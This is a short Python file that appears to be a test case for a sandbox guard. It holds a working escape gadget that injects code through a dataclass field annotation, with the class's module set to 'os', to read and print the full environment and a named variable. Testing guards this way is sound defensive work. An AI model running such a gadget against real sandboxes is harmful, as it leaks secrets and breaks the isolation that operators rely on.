# category: disclosure
# attack: os.environ and getenv from a dataclass codegen gadget
# profile: basic
# run-layer: guard
import abc, dataclasses
box = []
X = abc.ABCMeta("X", (), {"__module__": "os", "a": box,
    "__annotations__": {"a,self.a.append(environ),self.a.append(getenv)": int}})
Y = dataclasses.dataclass(init=False, repr=False)(X)
Y() == Y()
print(dict(box[0]), box[1]("@ENV_NAME@"))
